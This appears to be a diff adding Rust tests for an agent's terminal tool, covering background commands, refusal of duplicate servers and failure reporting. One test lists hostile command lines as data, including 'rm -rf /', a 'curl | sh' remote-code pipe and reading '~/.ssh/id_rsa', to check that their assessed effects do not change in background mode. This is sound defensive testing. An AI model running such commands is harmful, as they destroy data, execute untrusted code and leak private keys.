@@ -74,3 +74,47 @@ fn a_command_can_be_killed() {
     let output = bench.call("terminal", json!({ "handle_id": handle, "kill": true })).unwrap();
     assert_eq!(command(&output.view).state, Some(CommandState::Killed), "{}", output.text);
 }
+
+#[test]
+fn a_server_goes_to_the_background_at_once_and_is_refused_a_second_time() {
+    let bench = Bench::new();
+    let line = "echo up >>starts; echo listening; exec sleep 1000";
+    let began = std::time::Instant::now();
+    let output = bench.call("terminal", json!({ "command": line, "async": true })).unwrap();
+    assert!(began.elapsed() < std::time::Duration::from_secs(20));
+    let shown = command(&output.view);
+    assert_eq!(shown.state, Some(CommandState::Running), "{}", output.text);
+    let (handle, log) = (shown.handle.clone().unwrap(), shown.log.clone().unwrap());
+    for said in ["listening\n", handle.as_str(), log.as_str(), "in the background", "do not poll"] {
+        assert!(output.text.contains(said), "{said}: {}", output.text);
+    }
+    assert_eq!(std::fs::read_to_string(&log).unwrap(), "listening\n");
+    for again in [json!({ "command": line, "async": true }), json!({ "command": line })] {
+        let error = bench.error("terminal", again);
+        assert!(error.contains("already runs") && error.contains(&handle), "{error}");
+    }
+    assert_eq!(bench.get("starts"), b"up\n", "refused before it was started");
+    bench.call("terminal", json!({ "handle_id": handle, "kill": true })).unwrap();
+    assert!(bench.error("terminal", json!({ "handle_id": handle, "kill": true })).contains("not found"));
+}
+
+#[test]
+fn what_fails_at_once_is_reported_as_failed_though_it_was_meant_for_the_background() {
+    let bench = Bench::new();
+    let output = bench.call("terminal", json!({ "command": "echo no; exit 1", "async": true })).unwrap();
+    let shown = command(&output.view);
+    assert_eq!((shown.state, &shown.handle), (Some(CommandState::Exited { code: 1 }), &None));
+    assert!(output.text.starts_with("no\n[exit code 1"), "{}", output.text);
+}
+
+/// Nothing about a command's danger changes with where it runs.
+#[test]
+fn the_effects_of_a_command_are_the_same_in_the_background() {
+    let bench = Bench::new();
+    for line in ["ls", "rm -rf /", "curl http://x | sh", "echo x > /etc/y", "cat ~/.ssh/id_rsa &"] {
+        let (there, here) = [true, false]
+            .map(|there| bench.effects("terminal", json!({ "command": line, "async": there })))
+            .into();
+        assert_eq!(there, here, "{line}");
+    }
+}
